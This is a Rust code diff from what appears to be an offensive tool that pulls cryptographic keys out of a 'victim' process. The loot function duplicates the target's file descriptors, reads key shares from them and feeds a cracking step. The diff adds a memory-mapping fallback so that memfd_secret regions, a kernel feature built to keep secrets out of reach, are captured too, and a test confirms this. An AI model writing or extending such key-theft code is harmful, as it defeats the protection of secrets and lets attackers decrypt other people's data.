@@ -17,6 +17,7 @@ use serde::{Deserialize, Serialize};
 
 use super::memory::{Mapping, Sight, walk};
 use super::verdict::Trouble;
+use crate::raw;
 
 /// Bytes of a key and of each of its shares.
 pub const KEY: usize = 32;
@@ -50,7 +51,8 @@ impl RecordAt {
 /// A record, taken out of the victim's memory.
 pub struct Record {
     cipher: u32,
-    nonce: [u8; NONCE],
+    /// Its nonce.
+    pub nonce: [u8; NONCE],
     tag: [u8; TAG],
     ciphertext: Vec<u8>,
     bound: Vec<u8>,
@@ -253,17 +255,31 @@ pub fn loot(pid: u32, through: Through) -> Result<Loot, Trouble> {
             loot.refused += 1;
             continue;
         };
-        let mut bytes = vec![0; 64 * 1024];
-        let Ok(read) = file.read_at(&mut bytes, 0) else {
+        let Ok(bytes) = content(&file) else {
             loot.refused += 1;
             continue;
         };
-        bytes.truncate(read);
         loot.read += 1;
         loot.shares.extend(bytes.first_chunk::<KEY>());
         loot.bytes.extend(bytes);
     }
     Ok(loot)
+}
+
+/// What a file begins with. Some can be mapped and not read.
+fn content(file: &File) -> io::Result<Vec<u8>> {
+    const MOST: usize = 64 * 1024;
+    let mut bytes = vec![0; MOST];
+    match file.read_at(&mut bytes, 0) {
+        Ok(read) => {
+            bytes.truncate(read);
+            Ok(bytes)
+        }
+        Err(_) => {
+            let len = usize::try_from(file.metadata()?.len()).unwrap_or(MOST).min(MOST);
+            raw::mapped(file.as_fd(), len)
+        }
+    }
 }
 
 fn duplicate(pid: u32, number: i32) -> io::Result<File> {
@@ -336,6 +352,23 @@ mod tests {
             crack.look_at_pairs();
             assert_eq!(crack.found, Some(Found { key, address: 0x1020, with: With::Memory(0x1080) }));
         }
+    }
+
+    #[test]
+    fn a_file_that_can_be_mapped_and_not_read_is_taken_too() {
+        // SAFETY: memfd_secret(2) takes one number and makes a descriptor, which is nobody else's.
+        #[allow(unsafe_code)]
+        let file = unsafe {
+            let made = libc::syscall(libc::SYS_memfd_secret, libc::O_CLOEXEC);
+            let Ok(made @ 0..) = i32::try_from(made) else {
+                eprintln!("skipped: no memfd_secret here ({})", io::Error::last_os_error());
+                return;
+            };
+            <File as std::os::fd::FromRawFd>::from_raw_fd(made)
+        };
+        file.set_len(4096).unwrap();
+        assert!(file.read_at(&mut [0; 8], 0).is_err());
+        assert_eq!(content(&file).unwrap(), vec![0; 4096]);
     }
 
     #[test]
